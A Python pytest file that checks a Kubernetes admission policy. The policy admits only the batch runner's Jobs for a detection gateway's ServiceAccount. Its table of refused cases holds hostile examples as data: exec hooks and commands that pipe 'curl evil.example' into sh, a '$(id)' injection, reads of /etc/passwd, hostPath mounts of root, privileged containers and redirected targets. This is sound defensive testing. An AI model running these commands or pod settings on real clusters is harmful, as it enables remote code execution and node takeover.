"""The admission policy that pins what the gateway's ServiceAccount may create to the batch
runner's Jobs (components/jobs/runner-policy.yaml), on a real API server (envtest): the
overlay's policy, binding, parameter and RBAC applied for real, Jobs created as the gateway's
account. The Job gateway/jobs/executors/kube.py builds (every task and option, over an upload
or a dataset, into the store or an allowed output) is admitted; the same Job changed as a
holder of the gateway's token would change it (another image or command, hooks and probes
running commands, thousands of pods, a node's worth of CPU, its own scheduler, resolver or
placement, an in-memory /tmp, the runner pointed elsewhere or let read anywhere, ...) is
refused with the policy's message. Other users (an operator) are not subject to it.
"""

from __future__ import annotations

import copy
import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from google.protobuf.descriptor import FieldDescriptor

from gateway.api import pipelines
from gateway.domain import ModelRef
from gateway.jobs.executors import kube
from gateway.jobs.runner.__main__ import run_parser
from gateway.jobs.spec import MAX_SHARDS
from gateway.tasks.builtin import BUILT_IN
from tests.support import runnerpolicy
from tests.support.apiserver import ApiServer
from tests.support.runnerpolicy import (
    ACTIVE_TIMEOUT,
    JOB_ID,
    POLICY,
    find,
    flag,
    gateway_image,
    job_spec,
    prod_objects,
    prod_settings,
    runner_job,
)

# Slow (make test-fast leaves it out): about 90 checks against the API server.
pytestmark = pytest.mark.slow

Obj = dict[str, Any]
NAMESPACE = "runner-policy"
GATEWAY = "detection-gateway"
STORE = "s3://example-bucket/detection-gateway/jobs"


@pytest.fixture(scope="module")
def policy(cluster: ApiServer) -> Iterator[ApiServer]:
    """The overlay's policy and what it needs, applied for real and active."""
    runnerpolicy.install(cluster, NAMESPACE)
    yield cluster
    runnerpolicy.uninstall(cluster)


def create(server: ApiServer, job: Obj, as_gateway: bool = True, dry_run: bool = True) -> Any:
    return runnerpolicy.create(server, job, NAMESPACE, as_gateway, dry_run)


def bad_job(change: Callable[[Obj, Obj], Any]) -> Obj:
    """kube.py's Job with `change(container, pod spec)` applied."""
    job = runner_job()
    change(job["spec"]["template"]["spec"]["containers"][0], job["spec"]["template"]["spec"])
    return job


def admitted(server: ApiServer, job: Obj) -> None:
    result = create(server, job)
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("task", [*(b.task for b in BUILT_IN), pipelines.TASK])
def test_the_job_kube_py_builds_is_admitted_with_every_option(policy: ApiServer, task: str) -> None:
    pipeline = task == pipelines.TASK  # a pipeline's job: --pipeline=NAME, no task or model
    binding = pipelines.binding(BUILT_IN) if pipeline else BUILT_IN.for_task(task)
    # Every option of the task set, so every flag the executor can pass is on the command line.
    fields = binding.request_type.DESCRIPTOR.fields_by_name
    kinds = {FieldDescriptor.TYPE_STRING: "polygon", FieldDescriptor.TYPE_FLOAT: 0.35}
    values = {name: kinds.get(fields[name].type, 7) for name in binding.options}
    job = runner_job(values, task=task, model=ModelRef("vehicles") if pipeline else None)
    args = job["spec"]["template"]["spec"]["containers"][0]["args"]
    given = {a.split("=")[1] for a in args if a.startswith("--option=")}
    assert set(binding.options) == given  # each as --option=NAME=VALUE, named by no flag
    parsed = run_parser().parse_args(args)  # ... and the runner takes them
    want = ("vehicles", None, "") if pipeline else ("", binding.verb, "detector")
    assert (parsed.pipeline, parsed.task, parsed.model) == want
    assert "--owner=uri:spiffe://cluster.local/ns/a/sa/b" in args  # the owner travels too
    admitted(policy, job)


def test_an_anonymous_owner_is_admitted_and_an_untyped_one_refused(policy: ApiServer) -> None:
    """Jobs created without a client identity are `anonymous`'s (gateway.identity.on_behalf)."""
    admitted(policy, runner_job(caller="anonymous"))
    assert create(policy, runner_job(caller="worker-7")).returncode != 0


def test_a_job_over_a_dataset_into_an_allowed_output_is_admitted(policy: ApiServer) -> None:
    """The ConfigMap's prefixes (here patched as an operator would) are what the gateway
    passes: a job over a dataset below allowedInputUris, writing below allowedOutputUris."""
    settings = prod_settings(
        prod_objects(), allowedInputUris="s3://datasets/images/", allowedOutputUris="gs://out/"
    )
    data = {"allowedInputUris": "s3://datasets/images/", "allowedOutputUris": "gs://out/"}
    policy.kubectl("patch", "configmap", POLICY, f"--namespace={NAMESPACE}",
                   "--type=merge", f"--patch={json.dumps({'data': data})}")  # fmt: skip
    try:
        job = runner_job(upload=False, output="gs://out/team-a/run-1/", settings=settings)
        deadline = time.monotonic() + ACTIVE_TIMEOUT
        while (result := create(policy, job)).returncode != 0:  # the new parameter is seen
            assert time.monotonic() < deadline, result.stderr
            time.sleep(0.2)
        elsewhere = runner_job(upload=False, output="gs://other/x/", settings=settings)
        assert "writes to" in create(policy, elsewhere).stderr
    finally:
        empty = {"data": {"allowedInputUris": "", "allowedOutputUris": ""}}
        policy.kubectl("patch", "configmap", POLICY, f"--namespace={NAMESPACE}",
                       "--type=merge", f"--patch={json.dumps(empty)}")  # fmt: skip


def test_the_job_kube_py_builds_is_created_and_stored_as_built(policy: ApiServer) -> None:
    job = runner_job()
    result = create(policy, job, dry_run=False)
    assert result.returncode == 0, result.stderr
    stored = json.loads(
        policy.kubectl(
            "get", "job", job["metadata"]["name"], f"--namespace={NAMESPACE}", "--output=json"
        ).stdout
    )
    assert (
        stored["spec"]["template"]["spec"]["containers"][0]["args"]
        == (job["spec"]["template"]["spec"]["containers"][0]["args"])
    )
    policy.kubectl("delete", "job", job["metadata"]["name"], f"--namespace={NAMESPACE}")


def test_any_tag_or_digest_of_the_gateway_image_is_admitted(policy: ApiServer) -> None:
    repository = gateway_image(prod_objects()).rsplit(":", 1)[0]
    for image in (f"{repository}:0.0.9", f"{repository}@sha256:{'a' * 64}", repository):
        admitted(policy, bad_job(lambda c, p, i=image: c.update(image=i)))


def test_the_most_shards_a_job_may_have_are_admitted_and_one_more_is_not(
    policy: ApiServer,
) -> None:
    """The policy's ceiling is gateway.jobs.spec.MAX_SHARDS."""

    def sharded(count: int) -> Obj:
        job = runner_job()
        job["spec"]["completions"] = count
        args = job["spec"]["template"]["spec"]["containers"][0]["args"]
        args[:] = [f"--shard-count={count}" if a.startswith("--shard-count=") else a for a in args]
        return job

    admitted(policy, sharded(MAX_SHARDS))
    assert "at most 1000 completions" in create(policy, sharded(MAX_SHARDS + 1)).stderr
    assert MAX_SHARDS == 1000 and kube.RUNNER_CONCURRENCY <= 64


EXEC = {"exec": {"command": ["sh", "-c", "curl -s evil.example/x | sh"]}}
LIMITS = "CPU and memory limits of at most 1 and 1Gi"
PLACED = "placed by the default scheduler"
READS = "reads only where jobs may"
COUNTS = "at most 1000 completions"
RETRIES = "retries each shard at most 3 times"
ONE_TMP = "one volume, the emptyDir `tmp` on disk"
BAD: dict[str, tuple[Callable[[Obj, Obj], Any], str]] = {
    # what runs: the image, the command, its arguments
    "another image": (lambda c, p: c.update(image="docker.io/library/busybox:1.37"),
                      "runs the gateway image"),
    "a look-alike image name": (
        lambda c, p: c.update(image=c["image"].replace("detection-gateway", "detection-gateway-x")),
        "runs the gateway image",
    ),
    "the image from another registry": (lambda c, p: c.update(image="evil.example/" + c["image"]),
                                        "runs the gateway image"),
    "an image pull Secret": (lambda c, p: p.update(imagePullSecrets=[{"name": "regcred"}]),
                             "names no image pull Secret"),
    "another command": (lambda c, p: c.update(command=["sh", "-c", "curl evil.example | sh"]),
                        "detection-batch INPUT OUTPUT"),
    "an unknown flag": (lambda c, p: c["args"].append("--ca-file=/etc/passwd"),
                        "detection-batch INPUT OUTPUT"),
    "a task option of another shape": (lambda c, p: c["args"].append("--option=min_score=$(id)"),
                                       "--option=NAME=VALUE"),
    "a third positional argument": (lambda c, p: c["args"].append("s3://x/"),
                                    "detection-batch INPUT OUTPUT"),
    "10,000 requests in flight per pod": (flag("concurrency", "10000"),
                                          "--concurrency at most 64"),
    "another --target": (flag("target", "evil.example:443"), "calls the gateway at --target"),
    "a second --target": (lambda c, p: c["args"].append("--target=evil.example:443"),
                          "calls the gateway at --target"),
    "--allowed-input-uris widened": (flag("allowed-input-uris", "s3://"), READS),
    "--allowed-input-uris over the whole store": (flag("allowed-input-uris", STORE), READS),
    "no --allowed-input-uris (no guard)": (
        lambda c, p: c.update(args=[a for a in c["args"] if "allowed-input-uris" not in a]), READS
    ),
    "--fenced-uris emptied": (flag("fenced-uris", ""), "fences the job store"),
    "output over the job records": (lambda c, p: c["args"].__setitem__(1, f"{STORE}/operations"),
                                    "writes to"),
    "output with ..": (
        lambda c, p: c["args"].__setitem__(1, f"{STORE}/jobs/{JOB_ID}/output/../../x"), "writes to"
    ),
    # code beside the runner's: hooks and probes run commands in the container
    "a postStart exec hook": (lambda c, p: c.update(lifecycle={"postStart": EXEC}),
                              "no lifecycle hooks and no probes"),
    "a preStop exec hook": (lambda c, p: c.update(lifecycle={"preStop": EXEC}),
                            "no lifecycle hooks and no probes"),
    "an exec liveness probe": (lambda c, p: c.update(livenessProbe=EXEC),
                               "no lifecycle hooks and no probes"),
    "an exec startup probe": (lambda c, p: c.update(startupProbe=EXEC),
                              "no lifecycle hooks and no probes"),
    "an exec readiness probe": (lambda c, p: c.update(readinessProbe=EXEC),
                                "no lifecycle hooks and no probes"),
    "a tty and stdin": (lambda c, p: c.update(tty=True, stdin=True), "no working directory, stdin"),
    # containers
    "a second container": (lambda c, p: p["containers"].append({**copy.deepcopy(c), "name": "x"}),
                           "exactly one container"),
    "an init container": (lambda c, p: p.update(initContainers=[{**copy.deepcopy(c), "name": "i"}]),
                          "exactly one container"),
    # env and identity
    "another Secret as env": (lambda c, p: c.update(
        env=[{"name": "K", "valueFrom": {"secretKeyRef": {"name": "other", "key": "k"}}}]),
        "takes no env"),
    "env from a ConfigMap": (lambda c, p: c["envFrom"].append({"configMapRef": {"name": "x"}}),
                             "takes no env"),
    "another ServiceAccount": (lambda c, p: p.update(serviceAccountName=GATEWAY),
                               "ServiceAccount detection-batch"),
    "a token": (lambda c, p: p.update(automountServiceAccountToken=True),
                "automountServiceAccountToken false"),
    # privileges
    "a privileged container": (
        lambda c, p: c["securityContext"].update(privileged=True, allowPrivilegeEscalation=True),
        "container securityContext is the template's",
    ),
    "an added capability": (
        lambda c, p: c["securityContext"]["capabilities"].update(add=["SYS_ADMIN"]),
        "container securityContext is the template's",
    ),
    "root": (lambda c, p: p["securityContext"].update(runAsUser=0, runAsNonRoot=False),
             "pod securityContext is the template's"),
    # the node: host namespaces and volumes
    "the host network": (lambda c, p: p.update(hostNetwork=True), "no host network"),
    "the host PID namespace": (lambda c, p: p.update(hostPID=True), "no host network"),
    "a shared process namespace": (lambda c, p: p.update(shareProcessNamespace=True),
                                   "shared process"),
    "a runtime class": (lambda c, p: p.update(runtimeClassName="unconfined"), "runtime class"),
    "a host alias": (lambda c, p: p.update(hostAliases=[{"ip": "10.0.0.1",
                                                         "hostnames": ["detection-gateway"]}]),
                     "host aliases"),
    "a hostPath volume": (lambda c, p: (
        p["volumes"].append({"name": "host", "hostPath": {"path": "/"}}),
        c["volumeMounts"].append({"name": "host", "mountPath": "/host"})), ONE_TMP),
    "tmp as a hostPath": (
        lambda c, p: p.update(volumes=[{"name": "tmp", "hostPath": {"path": "/var/run"}}]), ONE_TMP
    ),
    "another Secret mounted": (lambda c, p: (
        p["volumes"].append({"name": "s", "secret": {"secretName": "detection-gateway-tls"}}),
        c["volumeMounts"].append({"name": "s", "mountPath": "/s"})), ONE_TMP),
    "a 100Gi in-memory /tmp": (lambda c, p: p["volumes"][0].update(
        emptyDir={"medium": "Memory", "sizeLimit": "100Gi"}), ONE_TMP),
    "a 100Gi /tmp on disk": (lambda c, p: p["volumes"][0].update(emptyDir={"sizeLimit": "100Gi"}),
                             ONE_TMP),
    "/tmp without a size limit": (lambda c, p: p["volumes"][0].update(emptyDir={}), ONE_TMP),
    # placement and the cluster's capacity
    "a high priority class": (lambda c, p: p.update(priorityClassName="system-cluster-critical"),
                              "priority"),
    "a toleration": (lambda c, p: p.update(tolerations=[{"operator": "Exists"}]), "tolerations"),
    "a node selector": (lambda c, p: p.update(nodeSelector={"node-role.kubernetes.io/control-plane":
                                                            ""}), PLACED),
    "node affinity": (lambda c, p: p.update(affinity={"nodeAffinity": {
        "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
            {"matchExpressions": [{"key": "kubernetes.io/hostname", "operator": "In",
                                   "values": ["node-1"]}]}]}}}), PLACED),
    "another scheduler": (lambda c, p: p.update(schedulerName="my-scheduler"), PLACED),
    "dnsPolicy None with its own nameserver": (lambda c, p: p.update(
        dnsPolicy="None", dnsConfig={"nameservers": ["203.0.113.53"]}), "cluster's DNS"),
    "the node's resolver (dnsPolicy Default)": (lambda c, p: p.update(dnsPolicy="Default"),
                                               "cluster's DNS"),
    "64 CPUs": (lambda c, p: c["resources"]["limits"].update(cpu="64"), LIMITS),
    "512Gi of memory": (lambda c, p: c["resources"]["limits"].update(memory="512Gi"), LIMITS),
    "a GPU": (lambda c, p: c["resources"]["limits"].update({"nvidia.com/gpu": "1"}), LIMITS),
    "no limits": (lambda c, p: c["resources"].pop("limits"), LIMITS),
    "5,000 pods at once": (job_spec(parallelism=5000), "pods at once"),
    "100,000 shards": (lambda c, p: (flag("shard-count", "100000")(c, p),
                                     job_spec(completions=100000)(c, p)), COUNTS),
    "completions unlike --shard-count": (job_spec(completions=999), COUNTS),
    "1,000 retries per shard": (job_spec(backoffLimitPerIndex=1000), RETRIES),
    "failures ignored (retried for ever)": (job_spec(podFailurePolicy={"rules": [
        {"action": "Ignore", "onExitCodes": {"operator": "NotIn", "values": [0]}}]}), RETRIES),
    "kept for ever (no TTL)": (lambda c, p: p.setdefault("__job__", {}).update(
        ttlSecondsAfterFinished=None), RETRIES),
    "a selector over other runners' pods": (job_spec(manualSelector=True, selector={
        "matchLabels": {"app": "detection-batch"}}), RETRIES),
    "a grace period of 10^9 s": (lambda c, p: p.update(terminationGracePeriodSeconds=10**9),
                                 "grace period of at most 30 s"),
    "a Job named for another operation": (job_spec(name="detection-batch-0123abcd"), "named"),
}  # fmt: skip


def refused_job(case: str) -> Obj:
    job = bad_job(BAD[case][0])
    for name, value in job["spec"]["template"]["spec"].pop("__job__", {}).items():
        target = job["metadata"] if name == "name" else job["spec"]
        if value is None:
            target.pop(name, None)
        else:
            target[name] = value
    return job


@pytest.mark.parametrize("case", BAD)
def test_a_job_unlike_the_runners_is_refused_with_the_policys_message(
    policy: ApiServer, case: str
) -> None:
    result = create(policy, refused_job(case))
    assert result.returncode != 0, case
    assert f"ValidatingAdmissionPolicy '{POLICY}'" in result.stderr, result.stderr
    assert BAD[case][1] in result.stderr, result.stderr


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("labels", {"app": "tfserving"}),
        ("annotations", {"sidecar.istio.io/userVolume": '{"h":{"hostPath":{"path":"/"}}}'}),
    ],
)
def test_pod_labels_and_annotations_are_the_templates_only(
    policy: ApiServer, where: str, value: dict[str, str]
) -> None:
    job = runner_job()
    job["spec"]["template"]["metadata"][where].update(value)
    result = create(policy, job)
    assert result.returncode != 0
    assert "only the labels app=detection-batch" in result.stderr, result.stderr


def test_other_users_are_not_subject_to_it(policy: ApiServer) -> None:
    """An operator (here the admin) may still create any Job in the namespace."""
    job = bad_job(lambda c, p: c.update(image="docker.io/library/busybox:1.37"))
    result = create(policy, job, as_gateway=False)
    assert result.returncode == 0, result.stderr


def test_without_its_parameter_every_job_of_the_gateway_is_refused(policy: ApiServer) -> None:
    """Fail closed: the ConfigMap gone, the gateway's Jobs are refused, not let through."""
    saved = policy.kubectl(
        "get", "configmap", POLICY, f"--namespace={NAMESPACE}", "--output=json"
    ).stdout
    policy.kubectl("delete", "configmap", POLICY, f"--namespace={NAMESPACE}")
    try:
        deadline = time.monotonic() + ACTIVE_TIMEOUT
        while (result := create(policy, runner_job())).returncode == 0:
            assert time.monotonic() < deadline, "the Job is still admitted"
            time.sleep(0.2)
        assert "no params found" in result.stderr, result.stderr
    finally:
        restored = json.loads(saved)
        for key in ("resourceVersion", "uid", "creationTimestamp", "managedFields"):
            restored["metadata"].pop(key, None)
        policy.kubectl("create", "--filename=-", input=json.dumps(restored))
        deadline = time.monotonic() + ACTIVE_TIMEOUT
        while create(policy, runner_job()).returncode != 0:
            assert time.monotonic() < deadline, "the Job is not admitted again"
            time.sleep(0.2)


def test_the_parameter_follows_the_overlays_images() -> None:
    """`images` in an overlay rewrite the policy's parameter like the Deployment (images.yaml)."""
    objs = prod_objects()
    assert find(objs, "ConfigMap", POLICY)["data"]["image"] == gateway_image(objs)
    namespace = find(objs, "Namespace", "detection")
    binding = find(objs, "ValidatingAdmissionPolicyBinding", POLICY)
    selector = binding["spec"]["matchResources"]["namespaceSelector"]["matchLabels"]
    assert selector.items() <= namespace["metadata"]["labels"].items()


def test_the_gateway_reads_the_values_the_policy_admits() -> None:
    """Each batch setting the policy checks is the gateway's own, read from the same key of
    the ConfigMap: the two cannot disagree."""
    objs = prod_objects()
    data = find(objs, "ConfigMap", POLICY)["data"]
    settings = prod_settings(objs)
    assert settings.batch_runner_target == data["target"]
    assert settings.job_store == data["jobStore"]
    assert settings.batch_allowed_input_uris == data["allowedInputUris"]
    assert settings.batch_allowed_uris == data["allowedOutputUris"]
    assert settings.batch_parallelism == int(data["parallelism"])
    assert (settings.batch_cpu, settings.batch_memory) == (data["cpu"], data["memory"])


def test_every_refusal_is_a_row_of_the_attack_table() -> None:
    text = (Path(__file__).resolve().parents[2] / "docs" / "security.md").read_text()
    name = test_a_job_unlike_the_runners_is_refused_with_the_policys_message.__name__
    assert [c for c in BAD if f"{Path(__file__).name}::{name}[{c}]`" not in text] == []
